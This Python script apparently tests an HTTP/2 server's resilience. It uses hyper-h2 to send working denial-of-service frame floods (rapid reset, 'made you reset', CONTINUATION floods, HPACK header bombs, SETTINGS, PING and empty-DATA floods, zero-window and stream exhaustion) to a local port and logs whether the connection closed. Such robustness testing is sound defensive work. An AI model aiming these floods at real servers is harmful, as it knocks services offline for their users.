"""What an HTTP/2 server must survive, made with hyper-h2: a JSON line on each attack, with what became of it.

    http2-abuse.py tcp|tls PORT ATTACK…
"""

import itertools
import json
import socket
import ssl
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

MOST_FRAMES = 200_000
FRAMES_AT_ONCE = 300
MOST_SECONDS = 20


def request(stream, method="GET", extra=(), block=None, flags=("END_HEADERS",), end=True):
    fields = [(":method", method), (":scheme", "http"), (":path", "/x"), (":authority", "a"), *extra]
    frame = HeadersFrame(stream, block or Encoder().encode(fields))
    for flag in (*flags, *(["END_STREAM"] if end else [])):
        frame.flags.add(flag)
    return frame.serialize()


def rapid_reset(code):
    for stream in range(1, 2 * MOST_FRAMES, 2):
        yield request(stream) + RstStreamFrame(stream, code).serialize()


def made_you_reset():
    """An increment of 0 is an error of the stream (RFC 9113, section 6.9), which the server is to reset."""
    for stream in range(1, 2 * MOST_FRAMES, 2):
        update = bytes([0, 0, 4, 8, 0]) + stream.to_bytes(4, "big") + bytes(4)
        yield request(stream, "POST", end=False) + update


def continuation(payload):
    yield request(1, flags=())
    for _ in range(MOST_FRAMES):
        yield ContinuationFrame(1, payload).serialize()


def repeated_field(field, times):
    """A field in the table of the connection, and requests that name it so many times (RFC 7541, section 6.1)."""
    yield request(1, block=bytes([0x82, 0x86, 0x84, 0x41, 1, 0x61]) + field)
    for stream in range(3, 2 * MOST_FRAMES, 2):
        yield request(stream, block=bytes([0x82, 0x86, 0x84, 0x01, 1, 0x61]) + b"\xbe" * times)


LONG_FIELD = b"\x40\x04bomb\x7f\xa1\x1e" + b"z" * 4000
SHORT_FIELD = b"\x40\x01x\x01y"


def empty_data():
    yield request(1, "POST", end=False)
    for _ in range(MOST_FRAMES):
        yield DataFrame(1).serialize()


def settings():
    for number in range(MOST_FRAMES):
        yield SettingsFrame(0, {4: 65_535 + number % 2}).serialize()


def ping():
    for _ in range(MOST_FRAMES):
        yield PingFrame(0, b"12345678").serialize()


def zero_window():
    yield SettingsFrame(0, {4: 0}).serialize()
    for stream in range(1, 200, 2):
        yield request(stream)


def many_streams():
    for stream in range(1, 2000, 2):
        yield request(stream, "POST", end=False)


ATTACKS = {
    "rapid_reset": lambda: rapid_reset(8),
    "rapid_reset_without_error": lambda: rapid_reset(0),
    "made_you_reset": made_you_reset,
    "continuation": lambda: continuation(b"".join(b"\0\1x\x64" + b"y" * 100 for _ in range(100))),
    "empty_continuation": lambda: continuation(b""),
    "header_bomb": lambda: repeated_field(LONG_FIELD, 10_000),
    "many_fields": lambda: repeated_field(SHORT_FIELD, 500),
    "empty_data": empty_data,
    "settings": settings,
    "ping": ping,
    "zero_window": zero_window,
    "many_streams": many_streams,
}


def batched(frames):
    """Many go out at once, so that the server reads them at once."""
    while together := list(itertools.islice(frames, FRAMES_AT_ONCE)):
        yield together


def connected(transport, port):
    """A connection on which HTTP/2 is spoken: known before, or agreed on by ALPN."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=MOST_SECONDS)
    if transport == "tcp":
        return sock
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    secured = context.wrap_socket(sock)
    assert secured.selected_alpn_protocol() == "h2"
    return secured


def attack(transport, port, name):
    """Sends until the server closes the connection, and reads nothing before."""
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    sock = connected(transport, port)
    frames, closed, began = 0, False, time.monotonic()
    try:
        sock.sendall(connection.data_to_send())
        for together in batched(ATTACKS[name]()):
            sock.sendall(b"".join(together))
            frames += len(together)
        while sock.recv(65_536):
            pass
        closed = True
    except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
        closed = True
    except TimeoutError:
        pass
    sock.close()
    seconds = time.monotonic() - began
    return {"attack": name, "frames": frames, "closed": closed, "seconds": seconds}


_, transport, port, *names = sys.argv
for name in names:
    print(json.dumps(attack(transport, int(port), name)), flush=True)
